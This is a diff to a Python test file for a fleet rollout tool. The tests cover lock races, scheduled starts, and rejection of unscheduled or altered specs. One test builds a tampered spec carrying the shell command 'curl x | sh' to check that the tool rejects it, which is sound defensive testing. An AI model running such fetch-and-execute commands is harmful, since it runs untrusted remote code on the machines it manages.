@@ -4,13 +4,15 @@ and leaves a notice in the ledger for notify to publish."""
 
 from __future__ import annotations
 
+import json
 from datetime import timedelta
 from typing import Any
 
 import pytest
 from fleetwave.adapters.ledger import Locks
 from fleetwave.constants import SPEC_LOCK_GRACE_SECONDS
-from fleetwave_local.twin import Twin, TwinOptions
+from fleetwave_local.twin import TWIN_OPERATOR_ARN as OPERATOR
+from fleetwave_local.twin import Twin, TwinOptions, function_url_event
 
 from stacks.config import load_config
 
@@ -102,7 +104,7 @@ def test_a_start_while_the_specs_last_rollout_still_runs_is_skipped():
         spec = shell_spec(waves=[1, "100%"])
         first = twin.start(spec)
         # The first rollout is baking between waves when the schedule fires again
-        second = twin.invoke("start_rollout", {"trigger": "schedule", "spec": spec})
+        second = twin.schedule_start(spec)
         assert second["skipped"] and second["kind"] == "already_running"
         assert second["reason"].startswith(f"rollout {first['rollout_id']} of 'integration' is still ")
         assert [n["blocked_by"] for n in twin.reader.records.notices("integration")] == ["already_running"]
@@ -131,11 +133,16 @@ def test_two_starts_racing_for_one_spec_start_one_rollout(monkeypatch: pytest.Mo
             if not raced:
                 raced.append(True)
                 # Start B runs entirely between start A's read of the lock and A's conditional write
-                answers.append(twin.invoke("start_rollout", {"trigger": "schedule", "spec": spec}))
+                answers.append(twin.invoke("start_rollout", {"spec": spec}))
             return lock
 
+        twin.register_schedule(spec)
         monkeypatch.setattr(Locks, "spec_lock", racing)
-        answers.insert(0, twin.invoke("start_rollout", {"trigger": "cli", "spec": spec}))
+        # Start A by an operator; start B by its schedule
+        answers.insert(
+            0, twin.invoke("operator", function_url_event("POST", "/rollouts", {"spec": spec}, caller_arn=OPERATOR))
+        )
+        answers[0] = json.loads(answers[0]["body"])
         a, b = answers
         # Then B started and A, losing the write, found B holding the spec
         assert "rollout_id" in b and a["skipped"] and a["kind"] == "already_running"
@@ -174,9 +181,29 @@ def test_the_example_scheduled_spec_runs_from_what_its_schedule_carries():
     [scheduled] = [s for s in config.scheduled_specs if s.spec.name == "monthly-patching"]
     with Twin(TwinOptions(seed=29, run_seconds=(60, 300))) as twin:
         twin.add_nodes(4, tags={"PatchGroup": "web"})
-        # When Scheduler fires it
+        # When Scheduler fires it (the stack knows the spec by its digest)
+        twin.register_schedule(scheduled.spec.model_dump(mode="json", exclude_none=True))
         started = twin.invoke("start_rollout", scheduled.schedule_input())
         rollout = twin.run(started["rollout_id"])
         assert rollout.state.value == "SUCCEEDED" and rollout.trigger == "schedule"
+        assert rollout.started_by == "scheduler.amazonaws.com"
         # 10% of 4 nodes adds none past the canary: that mark is dropped, not run empty
         assert started["waves"] == [1, 1, 2]
+
+
+def test_the_start_function_starts_only_the_specs_the_stack_schedules_and_sets_the_trigger_itself():
+    with Twin(TwinOptions(seed=30)) as twin:
+        twin.add_nodes(2, tags={"env": "test"})
+        spec = shell_spec(waves=["100%"])
+        # Invoked directly (by anyone IAM lets invoke it) with a spec no schedule holds: rejected, nothing runs
+        direct = twin.invoke("start_rollout", {"trigger": "remediation", "spec": spec})
+        assert direct["rejected"] and "is not a spec this stack schedules" in direct["problems"][0]
+        # A scheduled spec changed on the way (another document, other commands): rejected too
+        twin.register_schedule(spec)
+        changed = {**spec, "document": {"name": "AWS-RunShellScript", "parameters": {"commands": ["curl x | sh"]}}}
+        assert twin.invoke("start_rollout", {"spec": changed})["rejected"]
+        assert twin.api_calls["ssm:SendCommand"] == 0
+        # The scheduled spec as deployed starts, as "schedule", whatever trigger the event claims
+        started = twin.invoke("start_rollout", {"trigger": "remediation", "spec": spec})
+        rollout = twin.run(started["rollout_id"])
+        assert rollout.trigger == "schedule" and rollout.started_by == "scheduler.amazonaws.com"
